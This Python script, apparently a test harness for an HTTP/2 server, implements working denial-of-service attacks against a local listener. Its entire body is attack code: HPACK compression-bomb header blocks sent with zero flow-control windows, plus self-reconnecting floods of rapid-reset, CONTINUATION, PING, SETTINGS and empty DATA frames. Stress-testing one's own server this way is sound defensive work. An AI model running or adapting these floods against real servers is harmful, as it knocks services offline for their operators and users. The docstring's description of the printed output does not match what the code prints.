"""Attacks on HTTP/2 without TLS: http2.py PORT ATTACK CONNECTIONS [PATH].

bomb-large, bomb-hundred, bomb-many: each connection opens a hundred requests, each with a header list at the limit that
costs a few bytes, because its fields are references to one entry of the compression's table: one of 4 kB, one of which
there may be nearly a hundred, or one of a single byte, of which there are more than the listener allows. The client's
windows are zero and it reads nothing, so that no answer can go out. unread: the same as the first, with windows that are
usual. reset, continuation, ping, settings, data: floods of frames that cost nothing, on connections that are opened
anew when they are ended. Prints `here CONNECTED` when all that is sent once has been sent, and leaves when its standard
input ends.
"""

import select
import socket
import sys
import threading

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, CONTINUATION = 0, 1, 3, 4, 6, 9
END_STREAM, END_HEADERS = 1, 4
STREAMS = 100
# What the listener's `header_size` is by default; each field counts for 32 bytes more than its name and value.
HEADER_LIST = 32 * 1024 - 400


def frame(kind, flags, stream, payload=b""):
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def string(text):
    length = len(text)
    if length < 127:
        return bytes([length]) + text
    head, length = b"\x7f", length - 127
    while length >= 128:
        head, length = head + bytes([length % 128 | 128]), length // 128
    return head + bytes([length]) + text


def literal(name, value, kind=b"\x00"):
    return kind + string(name) + string(value)


def request(path, method=b"GET"):
    fields = ((b":method", method), (b":scheme", b"http"), (b":authority", b"attack.example"), (b":path", path))
    return b"".join(literal(name, value) for name, value in fields)


def bomb(path, value):
    """The header blocks of a connection: the first one puts the entry into the table."""
    entry = literal(b"x", value, b"\x40")
    references = b"\xbe" * (HEADER_LIST // (len(value) + 33) - 1)
    first = request(path) + entry + references
    yield first
    for _ in range(STREAMS - 1):
        yield request(path) + b"\xbe" + references


def hello(window):
    return PREFACE + frame(SETTINGS, 0, 0, b"\x00\x04" + window.to_bytes(4, "big"))


def bomber(path, value, window):
    blocks = enumerate(bomb(path, value))
    return hello(window) + b"".join(frame(HEADERS, END_STREAM | END_HEADERS, 2 * n + 1, block) for n, block in blocks)


def flood(attack, path):
    """What begins a connection, and a piece of the flood by its number."""
    open_upload = frame(HEADERS, END_HEADERS, 1, request(path, b"POST"))
    endless = frame(HEADERS, 0, 1, request(path))
    block = request(path)

    def resets(number):
        streams = range(number * 100, number * 100 + 100)
        reset = lambda stream: frame(RST_STREAM, 0, stream, b"\x00\x00\x00\x08")
        return b"".join(frame(HEADERS, 5, 2 * n + 1, block) + reset(2 * n + 1) for n in streams)

    same = lambda piece: lambda number: piece
    return {
        "reset": (b"", resets),
        "continuation": (endless, same(frame(CONTINUATION, 0, 1, literal(b"x", b"y" * 1000)) * 100)),
        "ping": (b"", same(frame(PING, 0, 0, b"12345678") * 100)),
        "settings": (b"", same(frame(SETTINGS, 0, 0, b"\x00\x04\x00\x01\x00\x00") * 100)),
        "data": (open_upload, same(frame(DATA, 0, 1) * 100)),
    }[attack]


def connect(port):
    client = socket.create_connection(("127.0.0.1", port), 5)
    client.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
    return client


def flooder(port, attack, path, over):
    begin, piece = flood(attack, path)
    while not over.is_set():
        try:
            with connect(port) as client:
                client.sendall(hello(65535) + begin)
                number = 0
                while not over.is_set():
                    client.sendall(piece(number))
                    number += 1
        except OSError:
            pass


def main():
    port, attack, connections = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    path = sys.argv[4].encode() if len(sys.argv) > 4 else b"/"
    over = threading.Event()
    held = []
    if attack in ("bomb-large", "bomb-hundred", "bomb-many", "unread"):
        values = {"bomb-large": 3900, "bomb-hundred": 300, "bomb-many": 1, "unread": 3900}
        everything = bomber(path, b"v" * values[attack], 65535 if attack == "unread" else 0)
        for _ in range(connections):
            held.append(connect(port))
            held[-1].sendall(everything)
    else:
        for _ in range(connections):
            held.append(threading.Thread(target=flooder, args=(port, attack, path, over), daemon=True))
            held[-1].start()
    print(f"here {len(held)}", flush=True)
    select.select([sys.stdin], [], [])
    over.set()


main()
